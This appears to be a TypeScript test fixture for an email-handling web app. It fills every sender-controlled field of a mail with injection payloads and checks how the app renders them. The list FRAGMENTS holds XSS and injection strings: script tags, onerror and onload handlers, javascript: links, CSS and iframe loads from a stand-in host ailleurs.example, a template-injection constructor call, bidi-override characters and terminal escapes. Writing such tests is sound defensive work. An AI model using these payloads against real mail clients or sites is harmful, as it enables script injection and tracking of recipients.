import { SYSTEM } from '../../store/database.ts';
import { newId } from '../../store/ids.ts';
import type { Site } from './browser.ts';
import type { ParsedAttachment } from '../../mail/parsed.ts';
import type { ParsePool } from '../../mail/parse-pool.ts';
import type { HostileMail } from './hostile-mail.ts';
import type { NewConversation } from './world.ts';

/** What people put in mails to make a program ask for an address, run something or hide something. */
const FRAGMENTS = [
  '<script>globalThis.pwned = 1</script><script src="http://ailleurs.example/s.js"></script>',
  '<img src="http://ailleurs.example/pixel.gif" onerror="globalThis.pwned = 1">',
  '<svg onload="globalThis.pwned = 1"><image href="http://ailleurs.example/i"/></svg>',
  '<style>@import url(http://ailleurs.example/c.css); * { background: url(http://ailleurs.example/b) }</style>',
  '<link rel="preload" href="http://ailleurs.example/l"><base href="http://ailleurs.example/">',
  '<meta http-equiv="refresh" content="0;url=http://ailleurs.example/m"><iframe src="//ailleurs.example"></iframe>',
  '<a href="javascript:globalThis.pwned=1">clic</a> [lien](javascript:pwned=1) ![](http://ailleurs.example/md)',
  '</span></div></main><form action="http://ailleurs.example/f"><input autofocus onfocus="globalThis.pwned=1">',
  '\u202Eemoc.elpmaxe\u202C \u200B\u2066x\u2069 \uFEFF {{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1}',
  '&lt;script&gt;globalThis.pwned=1&lt;/script&gt; %3Cscript%3E \u001b[2J \u0007',
];
const ALL = FRAGMENTS.join('\n');

/** One conversation with all of it in every place a sender fills. */
export const FRAGMENTS_EVERYWHERE: NewConversation = {
  subject: FRAGMENTS.join(' ').slice(0, 900),
  sender_name: FRAGMENTS[1]!,
  body: ALL,
  quoted: ALL,
  attachments: FRAGMENTS.slice(0, 4).map((name, part) => ({ name, type: 'text/html', size: 10, part })),
};

/** The beginning of a mail's source, shown as if it were the text: markup, headers and bytes that a parser would take away. */
const SOURCE_CHARS = 4_000;
/** Everything sent comes as this from a mail whose parser could not end. */
export const sourceOf = ({ raw }: HostileMail): string =>
  raw.toString('latin1').replaceAll('\0', ' ').slice(0, SOURCE_CHARS);

/** What a message shows of a mail. */
export interface Shown {
  readonly subject: string;
  readonly body: string;
  readonly quoted: string;
  readonly signature: string;
  readonly from_name: string;
  readonly from_address: string;
  readonly to_addresses: string[];
  readonly attachments: readonly ParsedAttachment[];
}

/** Every mail twice: as our parser reads it, and its source as if that were the text. */
export async function shownOf(mails: readonly HostileMail[], parser: ParsePool): Promise<Shown[]> {
  const parsed = await Promise.all(mails.map(({ raw }) => parser.parse(raw)));
  return parsed.flatMap((mail, index) => {
    const source = sourceOf(mails[index]!);
    const { subject, body, quoted, signature, from_name, from_address, attachments } = mail;
    const to_addresses = mail.to_addresses.slice(0, 20);
    return [{ subject, body, quoted, signature, from_name, from_address, to_addresses, attachments }, plain(source)];
  });
}

/** A message that is all of one text. */
const plain = (text: string): Shown => ({
  ...{
    subject: text.slice(0, 200),
    body: text,
    quoted: text.slice(0, 500),
    signature: '',
    from_name: text.slice(0, 60),
  },
  ...{ from_address: 'membre@membre.example', to_addresses: [], attachments: [] },
});

export const FRAGMENTS_SHOWN: readonly Shown[] = FRAGMENTS.map(plain);

/** Adds older messages of the member to a thread. */
export async function addMessages(site: Site, conversation_id: string, shown: readonly Shown[]): Promise<void> {
  const received_at = new Date(Date.now() - 48 * 3_600_000);
  await site.world.store.write(SYSTEM, (tx) =>
    tx
      .insertInto('message')
      .values(
        shown.map(({ attachments, ...texts }) => {
          const id = newId(received_at.getTime());
          return {
            ...{ id, conversation_id, direction: 'incoming' as const, mailbox: 'pfs-assures' },
            ...{ status: 'dispatched' as const, outcome: 'joined' as const, received_at, ingested_at: received_at },
            ...texts,
            ...{ sha256: null, attachments: JSON.stringify(attachments), message_id: `<${id}@membre.example>` },
          };
        }),
      )
      .execute(),
  );
}
